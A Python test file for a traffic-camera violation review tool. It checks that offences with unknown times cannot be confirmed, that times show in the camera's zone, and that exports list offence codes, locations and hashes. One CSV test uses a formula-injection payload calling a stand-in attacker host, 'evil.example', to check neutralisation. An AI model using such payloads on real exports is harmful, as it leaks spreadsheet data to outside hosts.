"""What a notice rests on, as reviewers and admins meet it: a violation whose time is unknown
cannot be confirmed (web and CLI), times show in the camera's zone, and the export is one row per
offence with its location, offence code and hashes, and no live formulas."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import typer
from typer.testing import CliRunner

from detector.types import Box, Colour
from pipeline.rules.base import Violation
from pipeline.store import EvidenceFile, record_violation, start_run
from pipeline.store.records import ViolationStatus
from pipeline.store.review_export import export_rows
from pipeline.store.review_queries import QueueFilter
from pipeline.store.review_repo import ReviewError, decide
from review.cli import register
from review.export import csv_lines, neutralise
from tests.databases import database_env
from tests.review.test_web_review import decide as web_decide

APP = typer.Typer()
register(APP)
SITE = {
    "location": {"address": "Ly Thuong Kiet x Hang Bai, Hoan Kiem, Ha Noi", "gps": [21.0245, 105.853],
                 "direction": "northbound, towards Hang Bai"},
    "offence_codes": {"red_light": "ND100-5.5.a"},
}  # fmt: skip
T0 = datetime(2022, 9, 25, 9, 30, tzinfo=UTC)  # 16:30 in Hanoi


@pytest.fixture
def run(db):  # type: ignore[no-untyped-def]
    runner = CliRunner()

    def invoke(*args: str):  # type: ignore[no-untyped-def]
        env = {"COLUMNS": "200", **database_env(db.data_dir)}
        return runner.invoke(APP, [*args, "--data-dir", str(db.data_dir)], env=env)

    return invoke


def _run(db, settings: str, time_source: str = "file_name") -> int:  # type: ignore[no-untyped-def]
    return start_run(
        db, camera_id="hanoi-ltk-hangbai", source="/clips/16h30.25.9.22.mp4", source_sha256="a" * 64,
        model_name="vn2", model_sha256="b" * 64, scene_sha256="c" * 64, settings_json="{}",
        settings_hash=settings * 64, software_version="0.1.0", recorded_at=T0 if time_source != "unknown" else None,
        time_source=time_source, timezone="Asia/Ho_Chi_Minh", site=SITE,
    )  # fmt: skip


def _violation(db, run_id: int, n: int, *, t: float, x: float, time_source: str = "file_name") -> str:  # type: ignore[no-untyped-def]
    folder = f"evidence/hanoi/{n}"
    (db.data_dir / folder).mkdir(parents=True)
    (db.data_dir / folder / "during.jpg").write_bytes(f"during {n}".encode())
    import hashlib

    sha = hashlib.sha256(f"during {n}".encode()).hexdigest()
    v = Violation(
        rule="red_light", where="near_stop", track_id=n, label="motorcycle", frame_index=int(t * 6), timestamp=t,
        box=Box(x, 350.0, x + 30, 400.0), confidence=0.7, signal_id="near_right_main", signal_colour=Colour.RED,
        seconds_into_colour=12.5,
    )  # fmt: skip
    record, _ = record_violation(
        db, v, camera_id="hanoi-ltk-hangbai", run_id=run_id, dedup_key=f"{run_id}-{n}",
        occurred_at=T0 + timedelta(seconds=t), public_id=f"{n:032x}", time_source=time_source,
        evidence=[EvidenceFile("during", f"{folder}/during.jpg", sha, len(f"during {n}"), "image/jpeg")],
    )  # fmt: skip
    return record.public_id


def test_time_unknown_cannot_be_confirmed_by_the_cli_or_the_web(db, run, users, login):
    pid = _violation(db, _run(db, "d", "unknown"), 1, t=20.0, x=300, time_source="unknown")
    r = run("review", "confirm", pid, "--as", "rita", "--plate", "30K-559.78")
    assert r.exit_code == 2 and "the time of the offence is unknown" in r.stderr
    page = login("rita").get(f"/violations/{pid}")
    assert "time unknown" in page.text and "cannot be confirmed" in page.text
    rita = login("rita")
    r = web_decide(rita, pid, decision="confirm")
    assert r.status_code == 303 and r.headers["location"].startswith(f"/violations/{pid}")
    shown = rita.get(r.headers["location"]).text  # the page again, with the refusal
    assert "Not saved" in shown and "the time of the offence is unknown" in shown
    with pytest.raises(ReviewError, match="time of the offence is unknown"):
        decide(db, pid, reviewer="rita", decision="confirm", expected_last_review_id=None)
    assert run("review", "reject", pid, "--as", "rita", "--reason", "other", "--note", "no time").exit_code == 0


def test_the_camera_time_is_shown_in_its_zone(db, users, login):
    pid = _violation(db, _run(db, "d"), 1, t=41.5, x=300)
    page = login("rita").get(f"/violations/{pid}")
    assert "2022-09-25 16:30:41 +07 (Asia/Ho_Chi_Minh)" in page.text and "source: file name" in page.text


def test_csv_cells_that_start_a_formula_are_neutralised(db, run, users, tmp_path):
    pid = _violation(db, _run(db, "d"), 1, t=20.0, x=300)
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert run("review", "confirm", pid, "--as", "rita", "--plate", "30K-559.78", "--note", note).exit_code == 0
    out = tmp_path / "notice.csv"
    assert run("export", "-o", str(out)).exit_code == 0
    row = next(csv.DictReader(out.open(encoding="utf-8")))
    assert row["note"] == "'" + note
    for raw in ("+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(raw) == "'" + raw
    assert neutralise(-1.5) == -1.5 and neutralise("30K-559.78") == "30K-559.78"
    text = "".join(csv_lines([{"note": "=1+1", "gps_lon": -0.12}]))
    assert "'=1+1" in text and ",-0.12" in text


def test_the_export_is_a_notice(db, run, users, tmp_path):
    pid = _violation(db, _run(db, "d"), 1, t=41.5, x=300)
    assert run("review", "confirm", pid, "--as", "rita", "--plate", "29-B1 123.45").exit_code == 0
    out = tmp_path / "notice.json"
    assert run("export", "--format", "json", "-o", str(out)).exit_code == 0
    (row,) = json.loads(out.read_text())
    assert row["plate_text"] == "29-B1 123.45" and row["offence_code"] == "ND100-5.5.a"
    assert row["local_time"] == "2022-09-25T16:30:41.500+07:00" and row["timezone"] == "Asia/Ho_Chi_Minh"
    assert row["time_source"] == "file_name"
    assert row["address"].startswith("Ly Thuong Kiet") and (row["gps_lat"], row["gps_lon"]) == (21.0245, 105.853)
    assert row["direction"] == "northbound, towards Hang Bai"
    assert row["source_sha256"] == "a" * 64 and row["settings_hash"] == "d" * 64 and row["model_sha256"] == "b" * 64
    assert row["software_version"] == "0.1.0" and row["decided_by"] == "rita" and row["decided_at"]
    assert len(row["evidence_sha256"]["during"]) == 64 and len(row["seal_hash"]) == 64
    codes = tmp_path / "codes.yaml"
    codes.write_text("offence_codes:\n  red_light: 'K2-RL'\n")
    assert run("export", "--format", "json", "--offence-codes", str(codes), "-o", str(out)).exit_code == 0
    assert json.loads(out.read_text())[0]["offence_code"] == "K2-RL"


def test_one_offence_seen_by_two_runs_is_one_row(db, run, users, tmp_path):
    first, second = _run(db, "d"), _run(db, "e")  # other settings, the same footage
    a = [_violation(db, first, 1, t=20.0, x=300), _violation(db, first, 2, t=20.2, x=420)]  # two riders side by side
    b = [_violation(db, second, 3, t=20.5, x=306), _violation(db, second, 4, t=20.3, x=415),
         _violation(db, second, 5, t=35.0, x=300)]  # fmt: skip
    for pid in a + b:
        assert run("review", "confirm", pid, "--as", "rita", "--plate", "30K-559.78").exit_code == 0
    rows = export_rows(db, QueueFilter(status=ViolationStatus.CONFIRMED))
    assert [(r["public_id"], r["also_recorded_as"]) for r in rows] == [(a[0], [b[0]]), (a[1], [b[1]]), (b[2], [])]
    out = tmp_path / "notice.csv"
    r = run("export", "-o", str(out))
    assert r.exit_code == 0 and "wrote 3 violation(s)" in r.stdout
    assert len(list(csv.DictReader(io.StringIO(out.read_text())))) == 3
